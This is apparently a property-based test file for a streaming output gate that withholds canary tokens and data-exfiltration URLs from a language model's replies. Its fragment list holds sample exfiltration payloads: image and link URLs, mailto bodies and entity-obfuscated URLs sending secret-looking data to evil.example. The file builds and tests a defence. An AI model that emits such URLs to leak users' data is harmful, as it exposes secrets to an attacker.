import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { checkOutput } from '../../src/output/index.js';
import { type GateOptions, OutputGate } from '../../src/stream/index.js';
import type { ScanResult } from '../../src/types.js';

const canary = 'pbc-7k2m9q4x8v1c6z3n5t0w';
const options: GateOptions = {
  canaries: [canary],
  trustedDomains: ['docs.example.org'],
};

function through(pieces: readonly string[], how: GateOptions = options) {
  const gate = new OutputGate(how);
  let shown = '';
  for (const piece of pieces) shown += gate.push(piece);
  const before = shown;
  const { text, result } = gate.end();
  return { shown: before + text, before, result };
}

function cut(text: string, places: readonly number[]): string[] {
  const sorted = [...new Set(places.map((place) => place % (text.length + 1)))].toSorted(
    (a, b) => a - b,
  );
  const pieces: string[] = [];
  let from = 0;
  for (const place of sorted) {
    pieces.push(text.slice(from, place));
    from = place;
  }
  pieces.push(text.slice(from));
  return pieces;
}

/** Texts of the kind in which findings begin, end and fail to come about. */
const fragments = fc.constantFrom(
  'The answer is here. ',
  'if a <b and c> d\n',
  '![chart](',
  '[more](',
  'https://evil.example/?d=c2VjcmV0IHBhc3N3b3JkIGlz',
  'https://evil.example/p.png?data=hunter2pass',
  'https://docs.example.org/?data=hunter2pass',
  'www.example.com/?data=hunter2pass1',
  'HTTPS://EVIL.example/c2VjcmV0IHBhc3N3b3JkIGlz.png',
  ')',
  ' ',
  '\n\n',
  '"',
  "'",
  '<',
  '>',
  '<img src="',
  "<a href='",
  '<p style="color: red; background: url(',
  '[r]: ',
  '![x][r]',
  '&#104;ttps://evil.example/?d=secretvalue1',
  'h',
  'ht',
  'tps:',
  '//evil.example/?token=a1b2c3d4e5f6a7b8',
  'mail',
  'mailto:',
  'to:x@evil.example?body=c2VjcmV0IHBhc3N3b3JkIGlz',
  ']',
  '](',
  '\\',
  canary.slice(0, 9),
  canary.slice(9),
  canary,
  canary.split('').join(' '),
  '\u{1f600}',
  '\ud83d',
);
const replies = fc.array(fragments, { maxLength: 14 }).map((parts) => parts.join(''));
const cuts = fc.array(fc.nat(400), { maxLength: 40 });

function judged(result: ScanResult) {
  return { verdict: result.verdict, score: result.score, found: result.detections };
}

describe('a gate for replies', () => {
  it('gives the same verdict however a reply is cut into pieces', () => {
    fc.assert(
      fc.property(replies, cuts, (reply, places) => {
        const whole = through([reply]);
        expect(judged(through(cut(reply, places)).result)).toEqual(judged(whole.result));
        expect(judged(through(reply.split('')).result)).toEqual(judged(whole.result));
      }),
      { numRuns: 50 },
    );
  }, 30_000);

  it('shows a benign reply as it is and only the beginning of any other', () => {
    fc.assert(
      fc.property(replies, cuts, (reply, places) => {
        const { shown, result } = through(cut(reply, places));
        const expected = result.verdict === 'benign' ? reply : reply.slice(0, shown.length);
        expect(shown).toBe(expected);
      }),
    );
  });

  it('shows nothing of a canary or of a URL that is found', () => {
    fc.assert(
      fc.property(replies, cuts, (reply, places) => {
        const { shown, result } = through(cut(reply, places));
        const first = result.detections
          .filter(({ title }) => !title.includes('pieces'))
          .map(({ span }) => span.start);
        expect(shown.length).toBeLessThanOrEqual(Math.min(reply.length, ...first));
      }),
      { numRuns: 200 },
    );
  }, 30_000);

  it('judges a reply as the output checks judge the whole of it', () => {
    fc.assert(
      fc.property(replies, cuts, (reply, places) => {
        expect(through(cut(reply, places)).result.detections).toEqual(checkOutput(reply, options));
      }),
    );
  });

  it('shows what comes before a finding at once and withholds the rest', () => {
    const gate = new OutputGate({ canaries: [canary] });
    // In a cipher, a canary may begin with any letter.
    expect(gate.push('Sure. The note says ')).toBe('Sure. The note say');
    expect(gate.push(canary.slice(0, 10))).toBe('s ');
    expect(gate.push(canary.slice(10))).toBe('');
    expect(gate.push(' and more.')).toBe('');
    expect(gate.blocked).toBe(true);
    expect(gate.end()).toMatchObject({ text: '', result: { verdict: 'malicious' } });
  });

  it('lets text go as soon as it can no longer become a finding', () => {
    const gate = new OutputGate({ canaries: [canary] });
    expect(gate.push('see pbc-')).toBe('see ');
    expect(gate.push('files. ')).toBe('pbc-file');
    expect(gate.push('7 of them')).toBe('s. 7 of the');
  });

  it('holds a URL until it has ended', () => {
    const gate = new OutputGate();
    expect(gate.push('It is at htt')).toBe('It is at ');
    expect(gate.push('ps://docs.example.com/guide')).toBe('');
    expect(gate.push(' now.')).toBe('https://docs.example.com/guide now.');
  });

  it('withholds a reference that an earlier image uses', () => {
    const { shown, result } = through([
      '![x][r]\n\n',
      '[r]: https://evil.ex',
      'ample/?d=secretvalue\n',
    ]);
    expect(shown).toBe('![x][r]\n\n[r]: ');
    expect(result.detections.map(({ id }) => id)).toEqual(['PB-EXFIL-IMAGE']);
  });

  it('shows the end of a reply after all when its references turn out to be harmless', () => {
    const reply = '[docs][r]\n\n[r]: https://example.com/?d=secretvalue\n\nThat is all.';
    expect(through(reply.split(/(?= )/))).toMatchObject({
      shown: reply,
      result: { verdict: 'benign' },
    });
  });

  it('takes a target that is too long to be held back for a finding', () => {
    const value = 'word '.repeat(30);
    const reply = `<p style="${value}">text`;
    for (const pieces of [[reply], reply.split('')]) {
      const { shown, result } = through(pieces, { mostHeld: 100 });
      expect(result.detections.map(({ id }) => id)).toEqual(['PB-OVERFLOW']);
      expect(shown).not.toContain('word');
    }
  });

  it('does not hold a picture that stands in the text', () => {
    const reply = `![x](data:image/png;base64,${'iVBORw0K'.repeat(2000)})`;
    expect(through(cut(reply, [50, 9000, 12000]))).toMatchObject({
      shown: reply,
      result: { verdict: 'benign' },
    });
  });

  it('reads a reply up to a length and withholds what is beyond', () => {
    for (const pieces of [
      ['abcdefgh', 'ij'],
      ['abc', 'defghij'],
    ]) {
      const { shown, result } = through(pieces, { longest: 8 });
      expect(shown.length).toBeLessThanOrEqual(8);
      expect(result).toMatchObject({ verdict: 'suspicious', inputLength: 8 });
    }
  });

  it('leaves the verdict to the scanner that it is given', () => {
    const benign: ScanResult = {
      verdict: 'benign',
      score: 0,
      detections: [],
      scope: 'output',
      inputLength: 0,
      notes: [],
    };
    const reply = `The word is ${canary}.`;
    const { shown, before } = through([reply], { canaries: [canary], scan: () => benign });
    expect(before).toBe('The word is ');
    expect(shown).toBe(reply);
  });
});
